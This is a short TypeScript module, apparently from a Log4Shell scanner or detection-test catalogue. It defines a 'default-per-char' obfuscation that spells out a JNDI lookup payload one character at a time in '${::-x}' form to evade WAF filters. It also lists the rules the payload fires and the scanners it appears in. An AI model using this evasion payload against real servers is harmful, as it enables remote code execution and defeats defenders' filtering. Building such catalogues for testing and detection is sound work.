import { afterScheme, disguise } from '../form.ts'

/** Every character is the default of a variable without a name. */
export const defaultPerChar = disguise(
  {
    id: 'default-per-char',
    summary: 'each character as the default of an unnamed variable',
    firesOn: ['B', 'C'],
    seenIn: ['CISA log4j-scan waf1', 'fullhunt log4j-scan waf1', 'scan4log4shell', 'ZAP'],
  },
  (target) => `\${${spell('jndi')}:${spell(target.scheme)}:${afterScheme(target)}}`,
)

function spell(word: string): string {
  return Array.from(word, (char) => `\${::-${char}}`).join('')
}
